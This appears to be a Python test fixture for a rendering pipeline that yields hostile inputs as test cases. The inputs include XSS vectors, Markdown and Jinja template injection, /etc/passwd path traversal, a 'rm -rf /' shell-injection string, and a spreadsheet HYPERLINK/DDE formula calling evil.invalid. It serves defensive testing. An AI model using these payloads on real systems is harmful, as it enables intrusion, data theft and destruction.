"""Text that some program on the way to the reader might take for markup: HTML, Markdown, templates, links."""

from collections.abc import Iterator

from tests.hostile.case import HACK, HOST, Case, document, with_front_matter

_URL = f"https://{HOST}/x"

_HTML = {
    "script": f"<script>{HACK}</script>",
    "script-src": f'<script src="{_URL}.js"></script>',
    "script-end": f"</script><script>{HACK}</script>",
    "script-in-capitals": f"<ScRiPt\n>{HACK}</sCrIpT >",
    "img-onerror": f'<img src="{_URL}.png" onerror="{HACK}">',
    "img-unquoted": f"<img/src=x/onerror={HACK}//",
    "svg-onload": f'<svg/onload="{HACK}"><animate onbegin={HACK} attributeName=x></svg>',
    "iframe": f'<iframe srcdoc="<script>parent.{HACK}</script>" src="{_URL}"></iframe>',
    "object": f'<object data="{_URL}.swf"></object><embed src="{_URL}.swf">',
    "style": f'<style>@import "{_URL}.css"; * {{ background: url({_URL}.png) }}</style>',
    "style-attribute": f'<p style="background: url({_URL}.png)">x</p>',
    "base": f'<base href="https://{HOST}/">',
    "refresh": f'<meta http-equiv="refresh" content="0; url={_URL}">',
    "form": f'<form action="{_URL}"><input autofocus onfocus={HACK}><button>Go</button></form>',
    "link": f'<link rel="stylesheet" href="{_URL}.css"><link rel="prefetch" href="{_URL}">',
    "details": f"<details open ontoggle={HACK}><summary>x</summary></details>",
    "attribute-end": f'"><img src=x onerror={HACK}>',
    "attribute-end-single": f"' onmouseover='{HACK}' x='",
    "title-end": f"</title></head><body onload={HACK}>",
    "textarea-end": f"</textarea></style></noscript></template><img src=x onerror={HACK}>",
    "comment": f"<!-- --!><img src=x onerror={HACK}> -->",
    "comment-open": "<!-- the rest is gone",
    "cdata": f"<![CDATA[ ]]><script>{HACK}</script>",
    "instruction": f"<?php echo 1 ?><?xml-stylesheet href='{_URL}.xsl'?><!DOCTYPE x [<!ENTITY a 'b'>]>",
    "entities": f"&lt;script&gt;{HACK}&lt;/script&gt; &#60;script&#62; &#x3c;b&gt; &amp;lt; &nosuch;",
    "mutation": "<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={HACK}&gt;">',
    "dialog": "<dialog open class=search><div id=search-results data-search-open>",
    "own-anchors": '<span id="key-points" name="getElementById"></span><p id=s-aaaaaaaa class=quote>x',
}
_MARKDOWN = {
    "image": f"![x]({_URL}.png)",
    "link-script": f"[press](javascript:{HACK})",
    "link-reference": f"[press][1]\n\n[1]: javascript:{HACK}",
    "autolink": f"<javascript:{HACK}> <{_URL}> {_URL}",
    "attribute-list": f'word {{: onclick="{HACK}" #key-points .quote }}',
    "attribute-list-image": f"![x](x.png){{onerror={HACK}}}",
    "html-block": f'<div markdown="1">\n<script>{HACK}</script>\n</div>',
    "code": f"`code` ```<script>{HACK}</script>``` ~~~ \\` \\< \\[",
    "fence": f"```html\n<script>{HACK}</script>\n```",
    "snippet": '--8<-- "/etc/passwd"',
    "snippet-block": '--8<--\n/etc/passwd\n--8<--\n\n;--8<-- "x"',
    "block": f"/// html | script\n{HACK}\n///",
    "admonition": f'!!! danger "<script>{HACK}</script>"\n    {HACK}',
    "footnote": f"word[^1]\n\n[^1]: <script>{HACK}</script>",
    "abbreviation": f"*[council]: <script>{HACK}</script>",
    "table": f"| a | b |\n|---|---|\n| <script>{HACK}</script> | \\| |",
    "emphasis": "*a* **b** _c_ __d__ ***e*** ~~f~~ ==g== ^^h^^ ++i++ {--j--} $$k$$ :smile: [TOC]",
    "setext": "word\n=====\n\nword\n-----",
    "definition": ":   definition\n\nTerm\n:   definition",
    "wiki": "[[../../etc/passwd]] ![[x]] [x](../../../../etc/passwd)",
    "search-exclude": "# Heading # { data-search-exclude } {#id}",
}
_TEMPLATES = {
    "jinja": "{{ 7*7 }} {{ config }} {{ ''.__class__.__mro__ }}",
    "jinja-include": "{% include '/etc/passwd' %}{% for x in ().__class__ %}",
    "jinja-raw": "{% raw %} {# all that follows",
    "jinja-end": "{% endraw %}{% endblock %} #} }} %}",
    "others": f"${{7*7}} <%= 7*7 %> #{{7*7}} [[${{7*7}}]] {{{{constructor.constructor('{HACK}')()}}}}",
    "shell": "$(touch /tmp/hacked) `touch /tmp/hacked` ; rm -rf / | cat",
    "front-matter": f"---\ntemplate: 404.html\nhide: [x]\ntitle: <script>{HACK}</script>\n---",
    "script-string": f"';{HACK};// \";{HACK};// `${{{HACK}}}` \u2028{HACK}\u2029 </SCRIPT>",
    "formula": '=HYPERLINK("https://evil.invalid/"&A1;"x") +1+cmd|\' /C calc\'!A0 @SUM(1) -2+3',
    "latex": "\\input{/etc/passwd} } @misc{evil, title={x}} \\write18{x} %",
    "ris": "x\r\nER  - \r\nTY  - RPRT\r\nUR  - javascript:x",
    "redirect": "/* https://evil.invalid/ 301\n/ https://evil.invalid/;",
}
_SCHEMES = {
    "javascript": f"javascript:{HACK}",
    "mixed-case": f"JaVaScRiPt:{HACK}",
    "with-tab": f"java\tscript:{HACK}",
    "with-entity": f"&#106;avascript&colon;{HACK}",
    "leading-control": f"\x01javascript:{HACK}",
    "data": f"data:text/html,<script>{HACK}</script>",
    "vbscript": "vbscript:msgbox(1)",
    "file": "file:///etc/passwd",
    "no-scheme": f"//{HOST}/x",
    "quote-in-address": f'https://{HOST}/"onmouseover="{HACK}',
    "broken-address": "http://[::1",
    "newline-in-address": f"https://{HOST}/x\n\n<script>{HACK}</script>",
}


def cases() -> Iterator[Case]:
    """Yield each text in turn as plain text and as Markdown with the same in its front matter."""
    for kind, texts in (
        ("HTML in text", _HTML),
        ("Markdown in text", _MARKDOWN),
        ("templates, data and other languages in text", _TEMPLATES),
        ("links with odd schemes", _SCHEMES),
    ):
        folder = kind.partition(" ")[0].strip(",").lower()
        for place, (name, payload) in enumerate(texts.items()):
            if place % 2:
                yield Case(kind, f"{folder}/{name}.txt", document(payload).encode())
            else:
                yield Case(kind, f"{folder}/{name}.md", with_front_matter(payload).encode())


PAYLOADS = tuple({**_HTML, **_MARKDOWN, **_TEMPLATES, **_SCHEMES}.values())
"""All of them, for other places than the text of a source."""
